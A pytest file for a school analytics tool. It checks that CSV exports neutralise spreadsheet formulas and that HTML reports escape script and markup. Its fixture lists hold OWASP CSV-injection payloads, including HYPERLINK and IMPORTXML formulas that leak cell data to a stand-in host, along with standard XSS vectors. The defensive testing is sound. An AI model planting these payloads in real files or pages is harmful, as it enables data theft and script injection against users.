"""Hostile text stays inert: spreadsheet formulas are neutralised, HTML and script are shown as text (issue 6).

Payloads are OWASP's CSV-injection examples (https://owasp.org/www-community/attacks/CSV_Injection) and the
classic XSS vectors of OWASP's XSS filter-evasion cheat sheet. The checks are written independently of
kwanalytics.safety: a CSV cell is dangerous when a spreadsheet would start a formula with it, i.e. it begins with
= @ tab or carriage return, or with + or - followed by something other than a plain number.
"""

import csv
import io
import os
import re
import subprocess
import sys

import pandas as pd
import pytest

from kwanalytics import safety
from kwanalytics import store
from kwanalytics.output import print_frame

ENV = {**os.environ, "COLUMNS": "400"}

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+2\";=1+2",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click for further information\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "\t=1+1",
    "\r=1+1",
    "-cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd",
    "=",
]
PLAIN = ["-2", "+2", "-0.35", "+44 20 7946 0000", "-1,500", "Tom hit the wall", "2+2=4", "£40 - taxi", "", "-"]

HTML_PAYLOADS = [
    "<script>alert('kwa')</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(2)\">click</a>",
    "\"><svg onload=alert(3)>",
    "</td></tr></table><iframe src=//evil.example>",
]


def dangerous(cell: str) -> bool:
    """Would a spreadsheet (Excel, LibreOffice, Google Sheets) start a formula with this cell?"""
    if not cell:
        return False
    if cell[0] in "=@\t\r":
        return True
    return cell[0] in "+-" and re.fullmatch(r"[+-][\d .,]*", cell) is None


def assert_inert_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not dangerous(cell), f"formula cell survived: {cell!r}"
    return rows


# ------------------------------------------------------------------------------------------------ the helpers

def test_checker_itself_flags_every_payload():
    assert all(dangerous(p) for p in FORMULAS)
    assert not any(dangerous(p) for p in PLAIN)


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_payload_neutralised(payload):
    out = safety.neutralise_formula(payload)
    assert out == "'" + payload  # shown as typed, with the quote a spreadsheet hides
    assert not dangerous(out)


@pytest.mark.parametrize("value", PLAIN)
def test_plain_values_unchanged(value):
    assert safety.neutralise_formula(value) == value


def test_spreadsheet_safe_frame_cells_and_headers():
    frame = pd.DataFrame({
        "notes": FORMULAS + PLAIN[:2],
        "=evil_header": range(len(FORMULAS) + 2),
        "change": [-2.0] * (len(FORMULAS) + 2),
        "phone": pd.array(["+44 20 7946 0000"] * (len(FORMULAS) + 1) + [None], dtype="string"),
    })
    out = safety.spreadsheet_safe(frame)
    assert out["notes"].tolist() == ["'" + p for p in FORMULAS] + PLAIN[:2]
    assert list(out.columns) == ["notes", "'=evil_header", "change", "phone"]
    assert out["change"].tolist() == [-2.0] * (len(FORMULAS) + 2)  # numbers stay numbers
    assert out["phone"].iloc[0] == "+44 20 7946 0000" and pd.isna(out["phone"].iloc[-1])
    assert frame["notes"].tolist()[0] == FORMULAS[0]  # the caller's frame is not changed
    assert_inert_csv(safety.to_safe_csv(frame))


def test_carriage_return_inside_a_cell_cannot_start_a_row():
    # Python's csv writer with "\n" line ends leaves a lone CR unquoted; spreadsheets break the row there.
    frame = pd.DataFrame({"notes": ["calm morning\r=cmd|' /C calc'!A0", "ok\n@SUM(1+1)"], "n": [1, 2]})
    text = safety.to_safe_csv(frame)
    rows = assert_inert_csv(text)
    assert rows == [["notes", "n"], ["calm morning\r=cmd|' /C calc'!A0", "1"], ["ok\n@SUM(1+1)", "2"]]
    # A spreadsheet ends a row at a CR or LF outside quotes: both cells must be quoted.
    assert '"calm morning\r=cmd' in text and '"ok\n@SUM(1+1)"' in text
    assert pd.DataFrame({"x": ["a\rb"]}).to_csv(index=False, lineterminator="\n") == "x\na\rb\n"  # the trap


def test_csv_output_of_commands_is_inert(capsys):
    frame = pd.DataFrame({"student_id": FORMULAS, "programme": ["@SUM(1+1)"] * len(FORMULAS),
                          "rate_ratio": [-0.5] * len(FORMULAS), "contact": ["+44 20 7946 0000"] * len(FORMULAS)})
    from rich.console import Console

    print_frame(frame, "csv", "t", Console())
    rows = assert_inert_csv(capsys.readouterr().out)
    assert rows[1][0] == "'" + FORMULAS[0]
    assert rows[1][2] == "-0.5" and rows[1][3] == "+44 20 7946 0000"
    assert len(rows) == len(FORMULAS) + 1


def test_terminal_table_does_not_run_rich_markup(capsys):
    from rich.console import Console

    console = Console(width=200, force_terminal=False)
    print_frame(pd.DataFrame({"notes": ["[bold red]fake warning[/]", "[link=http://evil.example]x[/link]"]}),
                "table", "t", console)
    out = capsys.readouterr().out
    assert "[bold red]fake warning[/]" in out and "[link=http://evil.example]x[/link]" in out


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_escape(payload):
    out = safety.escape(payload)
    assert "<" not in out and ">" not in out and '"' not in out
    assert safety.escape(None) == "" and safety.escape(float("nan")) == ""


def test_report_tables_escape_cells():
    charts = pytest.importorskip("kwanalytics.evidence.charts")
    html = charts.table_html(pd.DataFrame({"notes": HTML_PAYLOADS, "<b>col</b>": range(len(HTML_PAYLOADS))}))
    for payload in HTML_PAYLOADS + ["<b>col</b>"]:
        assert payload not in html
    assert "&lt;script&gt;alert(&#x27;kwa&#x27;)&lt;/script&gt;" in html or "&lt;script&gt;alert('kwa')" in html


def test_report_figures_cannot_close_their_script():
    charts = pytest.importorskip("kwanalytics.evidence.charts")
    import plotly.graph_objects as go

    fig = go.Figure(go.Bar(x=["</script><script>alert(1)</script>"], y=[1], hovertext=[HTML_PAYLOADS[1]]))
    html = charts.figure_html(fig)
    assert "</script><script>alert(1)" not in html and "<img src=x" not in html


# ------------------------------------------------------------------------------------------------ whole commands

def _hostile_workspace(ws):
    """Processed tables whose text fields carry payloads (as if an export had let them through)."""
    n = 40
    ids = [FORMULAS[0], "S002", "@SUM(1+1)", "S004"]
    store.write_table(ws, "students", pd.DataFrame({"student_id": ids, "display_name": HTML_PAYLOADS[:4],
                                                    "year_group": ["Year 9"] * 4}))
    times = pd.date_range("2025-09-08 09:10", periods=n, freq="7D")
    store.write_table(ws, "incidents", pd.DataFrame({
        "incident_id": [f"I{i}" for i in range(n)],
        "student_id": [ids[i % 2 * 2] for i in range(n)],
        "occurred_at": times, "period": ["Period 1"] * n, "lesson": [FORMULAS[2]] * n,
        "location": ["Toilets"] * n, "category": ["Dysregulation"] * n,
        "severity": pd.array([3] * n, dtype="Int64"), "antecedent": ["Transition"] * n,
        "notes": [HTML_PAYLOADS[i % len(HTML_PAYLOADS)] for i in range(n)], "staff": [FORMULAS[5]] * n}))
    store.write_table(ws, "interventions", pd.DataFrame({
        "enrolment_id": ["E1", "=E2"], "student_id": [ids[0], ids[2]], "programme": ["@SUM(1+1)", "-2+3"],
        "started_on": pd.to_datetime(["2026-01-05", "2026-01-05"]), "ended_on": pd.to_datetime([None, None]),
        "entry_reason": HTML_PAYLOADS[:2], "exit_outcome": [None, None], "staff": FORMULAS[:2]}))


@pytest.mark.parametrize("command", [["impact", "--format", "csv"], ["impact", "--by", "programme", "--format", "csv"],
                                     ["watchlist", "--format", "csv"]])
def test_command_csv_is_inert(tmp_path, command):
    module = {"impact": "kwanalytics.metrics.impact", "watchlist": "kwanalytics.metrics.patterns"}[command[0]]
    pytest.importorskip(module)
    _hostile_workspace(tmp_path)
    proc = subprocess.run([sys.executable, "-m", "kwanalytics.cli", *command, "-w", str(tmp_path)],
                          capture_output=True, text=True, env=ENV)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr
    rows = assert_inert_csv(proc.stdout)
    # the payloads did reach the output (as neutralised text), so the check above proved something
    assert any(cell.startswith(("'=", "'@", "'-", "'+")) for row in rows[1:] for cell in row), rows[:3]


# ------------------------------------------------------------------------------------------------ reports

def _hostile_school(ws):
    """The shared synthetic school, with every free-text field of pupil S001 carrying an HTML payload."""
    from conftest import build_workspace

    build_workspace(ws)
    for table, col in (("incidents", "notes"), ("incidents", "consequence"), ("contacts", "summary"),
                       ("targets", "description"), ("interventions", "entry_reason"), ("sessions", "notes")):
        frame = store.read_table(ws, table)
        if col not in frame or frame.empty:
            continue
        mine = (frame["student_id"] == "S001").to_numpy()
        payloads = [HTML_PAYLOADS[i % len(HTML_PAYLOADS)] for i in range(int(mine.sum()))]
        frame[col] = frame[col].astype(object)
        frame.loc[mine, col] = payloads
        store.write_table(ws, table, frame)


def _assert_only_escaped(html: str, where: str) -> None:
    for payload in HTML_PAYLOADS:
        assert payload not in html, f"raw payload {payload!r} in {where}"
    # No element we did not write: the only scripts are plotly.js and plotly's own chart calls.
    assert "<img src=x" not in html and "<svg onload" not in html and "<iframe" not in html
    assert '<a href="javascript:' not in html.lower()


def test_reports_show_payloads_only_as_text(tmp_path):
    reports = pytest.importorskip("kwanalytics.render.reports")
    _hostile_school(tmp_path)
    failures = reports.render_reports(tmp_path, "student", students=["S001"])
    assert not failures, failures
    html = (tmp_path / "reports" / "students" / "S001.html").read_text(encoding="utf-8")
    _assert_only_escaped(html, "students/S001.html")
    assert "&lt;script&gt;alert(" in html  # the note is there, shown as text
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_patterns_report_shows_payloads_only_as_text(tmp_path):
    reports = pytest.importorskip("kwanalytics.render.reports")
    pytest.importorskip("kwanalytics.metrics.patterns")
    _hostile_school(tmp_path)
    failures = reports.render_reports(tmp_path, "patterns")
    assert not failures, failures
    _assert_only_escaped((tmp_path / "reports" / "patterns.html").read_text(encoding="utf-8"), "patterns.html")


# ------------------------------------------------------------------------------------------------ ingest outputs

def test_validation_page_and_rejected_csv_keep_payloads_inert(tmp_path):
    pytest.importorskip("kwanalytics.ingest.pipeline")
    raw = tmp_path / "data" / "raw"
    raw.mkdir(parents=True)
    (raw / "students.csv").write_text("student_id,display_name\nS001,Tom Hill\nS002,Amira Khan\n")
    rows = []
    for i, payload in enumerate(HTML_PAYLOADS + FORMULAS):
        good = i % 2 == 0
        rows.append({"incident_id": f"I{i}", "student_id": "S001",
                     "occurred_at": "2025-10-01 09:15" if good else payload,  # bad rows carry it in a bad value
                     "category": "Dysregulation", "severity": 2, "notes": payload})
    pd.DataFrame(rows).to_csv(raw / "incidents.csv", index=False)
    proc = subprocess.run([sys.executable, "-m", "kwanalytics.cli", "ingest", "-w", str(tmp_path)],
                          capture_output=True, text=True, env=ENV)
    assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    page = (tmp_path / "reports" / "validation.html").read_text(encoding="utf-8")
    _assert_only_escaped(page, "validation.html")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # the bad value is shown, as text, so staff can find and fix it
    rejected = list((tmp_path / "data" / "processed" / "rejected").glob("*.csv"))
    assert rejected, "no rejected-rows file"
    for path in rejected:
        text = path.read_text(encoding="utf-8-sig")
        assert_inert_csv(text)
        assert "'=cmd|" in text or "'@SUM" in text or "'+1+1" in text


# ------------------------------------------------------------------------------------------------ the demo school

def test_demo_hostile_text_is_stored_as_typed_and_shown_inert(tmp_path):
    """The demo plants a formula in an Arbor narrative and a script tag in a session note (demo_truth.json)."""
    import json

    pytest.importorskip("kwanalytics.demo.school")
    pytest.importorskip("kwanalytics.ingest.pipeline")
    reports = pytest.importorskip("kwanalytics.render.reports")
    kwa = [sys.executable, "-m", "kwanalytics.cli"]
    subprocess.run([*kwa, "demo", "-w", str(tmp_path)], check=True, capture_output=True, env=ENV)
    proc = subprocess.run([*kwa, "ingest", "-w", str(tmp_path)], capture_output=True, text=True, env=ENV)
    assert proc.returncode == 1, proc.stderr[-2000:]
    truth = json.loads((tmp_path / "data" / "demo_truth.json").read_text())
    planted = [m for m in truth["mistakes"] if m["kind"] == "hostile text"]
    assert len(planted) >= 2
    pupils = set()
    for m in planted:
        raw = pd.read_csv(tmp_path / "data" / "raw" / m["file"], dtype=str, encoding_errors="replace",
                          encoding="utf-8-sig" if "arbor" in m["file"] else None)
        row = raw.iloc[m["row"] - 1]
        sid = row.get("student_id", row.get("Student ID"))
        pupils.add(sid)
        stored = pd.concat([store.read_table(tmp_path, t) for t in ("incidents", "sessions")])
        assert (stored["notes"] == m["value"]).any(), f"{m['value']!r} not stored as typed"
    failures = reports.render_reports(tmp_path, "student", students=sorted(pupils))
    assert not failures, failures
    for sid in pupils:
        html = (tmp_path / "reports" / "students" / f"{sid}.html").read_text(encoding="utf-8")
        assert "<script>alert(1)</script>" not in html
